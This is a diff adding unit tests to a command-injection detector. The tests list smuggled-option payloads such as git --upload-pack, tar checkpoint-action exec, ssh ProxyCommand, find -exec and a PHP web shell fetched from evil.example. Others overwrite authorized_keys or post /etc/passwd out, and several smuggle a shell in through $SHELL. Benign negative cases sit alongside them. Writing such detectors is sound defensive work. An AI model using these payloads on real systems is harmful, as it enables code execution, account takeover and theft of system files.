@@ -773,5 +773,41 @@ TEST(CmdiTest, AdministrationAndDebuggingTools) {
   }
 }
 
+TEST(CmdiTest, OptionsInjectedIntoAToolsArguments) {
+  for (const std::string v :
+       {"--upload-pack=touch /tmp/x", "--receive-pack='sh -c id' origin",
+        "--checkpoint=1 --checkpoint-action=exec=sh run.sh", "--to-command=sh -c id",
+        "--use-compress-program='sh -c id'", "-oProxyCommand=\"sh -c id\" host",
+        "-o ProxyCommand=id host", ". -exec sh -c id \\;", "*.tmp -execdir rm {} +",
+        "-e 'sh -c id' host:/tmp", "-T -TT 'sh #' a.zip", "ext::sh -c id",
+        "https://evil.example/s.txt -o /var/www/html/s.php",
+        "-O/var/www/x.php https://evil.example/x", "--output ~/.ssh/authorized_keys https://x.example/k",
+        "https://x.example --post-file=/etc/passwd"}) {
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), Case{v}, &m)) << v;
+    EXPECT_EQ(m.rule_id, "cmdi.argument_injection") << v;
+  }
+  // Prose that names an option, options with harmless arguments, downloads
+  // saved under a relative name, and find without an action.
+  for (const std::string v :
+       {"use -o to save the file", "-v --help", "-e is the flag for expressions",
+        "https://example.com/a.pdf -o report.pdf", "--output=json", "-exec", "--upload-pack=",
+        "find . -name '*.tmp' -exec rm {} \\;", "-o /tmp/out.txt", ". -exec-mode fast"}) {
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), Case{v}, &m)) << v << " -> " << m.rule_id;
+  }
+}
+
+TEST(CmdiTest, ShellNamedByAVariable) {
+  for (const std::string v : {";$SHELL -c id", "| ${SHELL} -c 'uname -a'", ";$0 -c id"}) {
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), Case{v}, &m)) << v;
+    EXPECT_EQ(m.rule_id, "cmdi.variable_command") << v;
+  }
+  for (const std::string v : {"$HOME -c is weird", "price: $5 -c", "costs $0 -c"}) {
+    EXPECT_FALSE(Detects(CmdiDetector(), Case{v})) << v;
+  }
+}
+
 }  // namespace
 }  // namespace fnguard::detect
